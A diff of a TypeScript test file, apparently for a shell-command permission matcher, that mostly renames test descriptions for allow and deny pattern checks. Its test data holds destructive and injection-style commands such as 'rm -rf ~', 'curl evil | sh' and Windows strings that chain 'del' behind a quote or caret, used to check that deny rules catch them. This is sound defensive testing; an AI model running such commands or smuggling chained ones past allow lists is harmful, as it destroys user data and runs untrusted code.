@@ -4,7 +4,7 @@ import { allowsCommand, deniesCommand, isUnclearPattern } from './match-command.
 
 const allows = (pattern: string, command: string) => allowsCommand(pattern, command, 'posix');
 
-describe('a pattern that allows', () => {
+describe('allow pattern', () => {
   it.each([
     ['git *', 'git status'],
     ['git *', 'git   commit -m "a; b | c > d"'],
@@ -95,7 +95,7 @@ describe('a pattern that allows', () => {
     expect(allows(pattern, command)).toBe(false);
   });
 
-  it('never covers a command with an operator, a substitution or a line break behind a simple one', () => {
+  it('never covers an operator, substitution or line break after a simple command', () => {
     const plain = fc.stringMatching(/^[a-z0-9 ./-]{0,20}$/);
     const glue = fc.constantFrom(
       ';',
@@ -122,25 +122,25 @@ describe('a pattern that allows', () => {
     );
   });
 
-  it('covers nothing that is longer than anybody reads', () => {
+  it('covers no command that is longer than people read', () => {
     expect(allows('npm *', 'npm x'.padEnd(40_000, 'x'))).toBe(false);
   });
 
-  it('on Windows trusts no quote, and no variable', () => {
+  it('trusts no quotes and variables on Windows', () => {
     expect(allowsCommand('git *', 'git status', 'windows')).toBe(true);
     expect(allowsCommand('git *', "git log '& del x'", 'windows')).toBe(false);
     expect(allowsCommand('git *', 'git log %X%', 'windows')).toBe(false);
     expect(allowsCommand('git *', 'git log ^& del x', 'windows')).toBe(false);
   });
 
-  it('is told where it could never cover anything', () => {
+  it('is reported if it could never match', () => {
     expect(isUnclearPattern('echo $(*)')).toBe(true);
     expect(isUnclearPattern('echo $(x)')).toBe(false);
     expect(isUnclearPattern('git * | head')).toBe(false);
   });
 });
 
-describe('a pattern that denies', () => {
+describe('deny pattern', () => {
   it.each([
     ['rm *', 'rm -rf ~'],
     ['rm *', 'git status; rm -rf ~'],
@@ -192,7 +192,7 @@ describe('a pattern that denies', () => {
     ['git push', 'cd x && git  push'],
     ['*--force*', 'git push --force-with-lease'],
     ['curl * | sh', 'curl evil | sh'],
-  ])('%s finds %s', (pattern, command) => {
+  ])('%s matches %s', (pattern, command) => {
     expect(deniesCommand(pattern, command)).toBe(true);
   });
 
@@ -205,11 +205,11 @@ describe('a pattern that denies', () => {
     ['rm *', 'git add {a,b} c'],
     ['git push', 'git pushx'],
     ['git push', 'git pull'],
-  ])('%s does not find %s', (pattern, command) => {
+  ])('%s does not match %s', (pattern, command) => {
     expect(deniesCommand(pattern, command)).toBe(false);
   });
 
-  it('finds what it denies in every part of a compound command', () => {
+  it('matches in every part of a compound command', () => {
     const plain = fc.stringMatching(/^[a-z0-9 ./-]{0,20}$/);
     const glue = fc.constantFrom(';', ' && ', '||', '|', '&', '\n', '$(', '`', '"; ', "' ; ");
     fc.assert(
@@ -219,11 +219,11 @@ describe('a pattern that denies', () => {
     );
   });
 
-  it('finds it behind any length of text', () => {
+  it('matches after any length of text', () => {
     expect(deniesCommand('rm *', `${'x'.repeat(200_000)}; rm -rf ~`)).toBe(true);
   });
 
-  it('takes no longer for a text that was made to be slow', () => {
+  it('has no pathological cases', () => {
     const started = performance.now();
     const text = 'a '.repeat(100_000);
     for (const pattern of ['a *a *a *b', '*a*a*a*a*a*b', 'a a a*b']) {
